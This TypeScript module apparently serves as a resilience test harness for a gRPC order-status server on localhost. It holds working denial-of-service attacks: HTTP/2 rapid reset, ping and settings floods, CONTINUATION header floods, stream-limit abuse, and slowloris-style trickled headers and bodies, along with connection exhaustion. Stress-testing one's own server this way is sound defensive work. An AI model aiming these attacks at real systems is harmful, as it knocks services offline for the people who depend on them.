import { once } from "node:events";
import { connect } from "node:net";
import { setImmediate as nextTurn, setTimeout as sleep } from "node:timers/promises";
import { create, toBinary } from "@bufbuild/protobuf";
import { BatchGetOrderStatusRequestSchema } from "../../../gen/oms/orderstatus/v1/order_status_service_pb.ts";
import {
  END_HEADERS,
  END_STREAM,
  FRAME,
  frameOf,
  grpcMessage,
  header,
  NO_WINDOW,
  openRawHttp2,
  type RawHttp2,
  requestHeaders,
} from "./raw-http2.ts";

/** The target of an attack. */
export interface Target {
  readonly port: number;
  /** Content type of requests. */
  readonly type: string;
  /** The attacker's address. */
  readonly address: string;
  readonly signal: AbortSignal;
}

/** The effects that an attacker observed. */
export interface AttackResult {
  /** Writes, and the connections used. */
  sent: number;
  connections: number;
  /** Counts of how connections ended: "goaway 11", "closed", "open". */
  readonly ends: Record<string, number>;
  /** Counts of the codes of reset streams. */
  readonly resets: Record<string, number>;
  /** Counts of HTTP/1.1 status lines. */
  readonly statusLines: Record<string, number>;
}

type Attack = (target: Target, result: AttackResult) => Promise<void>;

const SERVICE = "/oms.orderstatus.v1.OrderStatusService";
const GET = `${SERVICE}/GetOrderStatus`;

/** Maximum number of reconnections. */
const MAX_CONNECTIONS = 5_000;

/** Traffic of an attacker, in bytes per second. More is a bandwidth attack. */
const BYTES_PER_SECOND = 10_000_000;

/** Delays each write until its bytes are within the traffic of an attacker. */
function createPacer(): (bytes: number) => Promise<void> {
  const startedAt = performance.now();
  let total = 0;
  return async (bytes) => {
    total += bytes;
    const aheadMs = (total / BYTES_PER_SECOND) * 1_000 - (performance.now() - startedAt);
    if (aheadMs > 2) {
      await sleep(aheadMs);
    }
  };
}

const count = (counts: Record<string, number>, what: string) => {
  counts[what] = (counts[what] ?? 0) + 1;
};

/**
 * Repeats a step on one connection after another, as fast as the server reads and the pace allows.
 */
const overHttp2 =
  (
    step: (raw: RawHttp2, turn: number, target: Target) => Buffer | undefined,
    options: Parameters<typeof openRawHttp2>[1] = {},
  ): Attack =>
  async (target, result) => {
    const pace = createPacer();
    while (!target.signal.aborted && result.connections < MAX_CONNECTIONS) {
      const raw = await openRawHttp2(target.port, { localAddress: target.address, ...options });
      result.connections += 1;
      let closed = false;
      raw.closed.finally(() => {
        closed = true;
      });
      for (let turn = 0; !closed && !target.signal.aborted; turn += 1) {
        const bytes = step(raw, turn, target);
        if (bytes === undefined) {
          await sleep(20);
        } else {
          result.sent += 1;
          await pace(bytes.length);
          if (!raw.socket.write(bytes)) {
            await Promise.race([once(raw.socket, "drain").catch(() => {}), raw.closed, sleep(500)]);
          } else if (turn % 8 === 0) {
            await nextTurn();
          }
        }
      }
      for (const code of raw.received.resets.values()) {
        count(result.resets, String(code));
      }
      count(
        result.ends,
        closed ? (raw.received.goaway === undefined ? "closed" : `goaway ${raw.received.goaway}`) : "open",
      );
      raw.socket.destroy();
    }
  };

const many = (frame: Buffer, times = 64) => Buffer.concat(Array.from({ length: times }, () => frame));

const streamsOf = (turn: number, each: number) =>
  Array.from({ length: each }, (_, index) => 2 * (turn * each + index) + 1);

const bigRequest = (() => {
  const orderIds = Array.from({ length: 1_000 }, (_, index) => BigInt(index + 1));
  return grpcMessage(
    toBinary(BatchGetOrderStatusRequestSchema, create(BatchGetOrderStatusRequestSchema, { orderIds })),
  );
})();

/** Repeats a step on many connections at once, over HTTP/1.1 or malformed HTTP. */
const overMany =
  (connections: number, start: Buffer, step: () => Buffer | undefined): Attack =>
  async ({ port, address, signal }, result) => {
    const one = async () => {
      const socket = connect({ port, host: "127.0.0.1", localAddress: address });
      let status = "";
      socket.on("error", () => {});
      socket.on("data", (bytes) => {
        status ||= /^HTTP\/1.1 \d+/.exec(bytes.toString("latin1"))?.[0] ?? "";
      });
      const closed = new Promise((resolve) => socket.once("close", resolve));
      await Promise.race([once(socket, "connect").catch(() => {}), closed]);
      result.connections += 1;
      socket.write(start);
      while (!signal.aborted && !socket.destroyed) {
        const bytes = step();
        if (bytes !== undefined && !socket.write(bytes)) {
          await Promise.race([once(socket, "drain").catch(() => {}), closed, sleep(500)]);
        } else {
          await Promise.race([sleep(200), closed]);
        }
        result.sent += bytes === undefined ? 0 : 1;
      }
      count(result.ends, socket.destroyed ? "closed" : "open");
      count(result.statusLines, status);
      socket.destroy();
    };
    for (let opened = 0; opened < connections && !signal.aborted; opened += 50) {
      void Promise.all(Array.from({ length: 50 }, one));
      await sleep(5);
    }
    await once(signal, "abort");
    await sleep(100);
  };

/** All attacks by name. */
export const ATTACKS = {
  "streams opened and reset at once": overHttp2((_raw, turn, { type }) =>
    Buffer.concat(
      streamsOf(turn, 32).flatMap((stream) => [
        frameOf(FRAME.headers, END_HEADERS, stream, requestHeaders(GET, type)),
        frameOf(FRAME.reset, 0, stream, Buffer.from([0, 0, 0, 8])),
      ]),
    ),
  ),
  "more streams than allowed": overHttp2((_raw, turn, { type }) =>
    turn < 400
      ? Buffer.concat(
          streamsOf(turn, 32).map((stream) => frameOf(FRAME.headers, END_HEADERS, stream, requestHeaders(GET, type))),
        )
      : undefined,
  ),
  "a flood of pings": overHttp2(() => many(frameOf(FRAME.ping, 0, 0, Buffer.alloc(8)))),
  "a flood of pings without reading the answers": overHttp2((raw) => {
    raw.socket.pause();
    return many(frameOf(FRAME.ping, 0, 0, Buffer.alloc(8)));
  }),
  "a flood of settings": overHttp2(() => many(frameOf(FRAME.settings, 0, 0, Buffer.from([0, 4, 0, 0, 255, 255])))),
  "a flood of empty data": overHttp2((_raw, turn, { type }) =>
    turn === 0 ? frameOf(FRAME.headers, END_HEADERS, 1, requestHeaders(GET, type)) : many(frameOf(FRAME.data, 0, 1)),
  ),
  "endless headers": overHttp2((_raw, turn, { type }) =>
    turn === 0
      ? frameOf(FRAME.headers, 0, 1, requestHeaders(GET, type))
      : many(frameOf(FRAME.continuation, 0, 1, header("x", "y"))),
  ),
  "too many headers": overHttp2((_raw, turn, { type }) => {
    const lines = Array.from({ length: 300 }, (_, index): [string, string] => [`x-${index}`, "y"]);
    return frameOf(FRAME.headers, END_HEADERS | END_STREAM, 2 * turn + 1, requestHeaders(GET, type, lines));
  }),
  "headers that are too large": overHttp2((_raw, turn, { type }) => {
    const lines: [string, string][] = Array.from({ length: 5 }, (_, index) => [`x-${index}`, "y".repeat(16_000)]);
    const block = requestHeaders(GET, type, lines);
    const pieces = Array.from({ length: Math.ceil(block.length / 16_000) }, (_, index) =>
      block.subarray(index * 16_000, (index + 1) * 16_000),
    );
    return Buffer.concat(
      pieces.map((piece, index) =>
        frameOf(
          index === 0 ? FRAME.headers : FRAME.continuation,
          (index === 0 ? END_STREAM : 0) | (index === pieces.length - 1 ? END_HEADERS : 0),
          2 * turn + 1,
          piece,
        ),
      ),
    );
  }),
  "large responses that are not read": overHttp2(
    (_raw, turn, { type }) =>
      turn < 200
        ? Buffer.concat([
            frameOf(FRAME.headers, END_HEADERS, 2 * turn + 1, requestHeaders(`${SERVICE}/BatchGetOrderStatus`, type)),
            frameOf(FRAME.data, END_STREAM, 2 * turn + 1, bigRequest),
          ])
        : undefined,
    { settings: NO_WINDOW },
  ),
  "a request that never completes": overHttp2((raw, turn, { type }) => {
    if (turn === 0) {
      return Buffer.concat([
        frameOf(FRAME.headers, END_HEADERS, 1, requestHeaders(GET, type)),
        frameOf(FRAME.data, 0, 1, grpcMessage(Buffer.alloc(0), 0xff_ff_ff)),
      ]);
    }
    return raw.received.resets.size > 0 ? undefined : frameOf(FRAME.data, 0, 1, Buffer.alloc(16_000));
  }),
  "incomplete prefaces": overMany(1_000, Buffer.from("PRI * HTTP/2.0\r\n"), () => undefined),
  "trickling headers": overMany(1_000, Buffer.from(`POST ${GET} HTTP/1.1\r\nhost: localhost\r\n`), () =>
    Buffer.from("x: y\r\n"),
  ),
  "a trickling body": overMany(
    1_000,
    Buffer.from(
      `POST ${GET} HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: 9999\r\n\r\n{`,
    ),
    () => Buffer.from(" "),
  ),
  "an endless body": overMany(
    50,
    Buffer.from(
      `POST ${GET} HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n`,
    ),
    () => Buffer.concat([Buffer.from("4000\r\n"), Buffer.alloc(0x4000, 32), Buffer.from("\r\n")]),
  ),
  "too many connections": overMany(3_000, Buffer.alloc(0), () => undefined),
} satisfies Record<string, Attack>;

export type AttackName = keyof typeof ATTACKS;
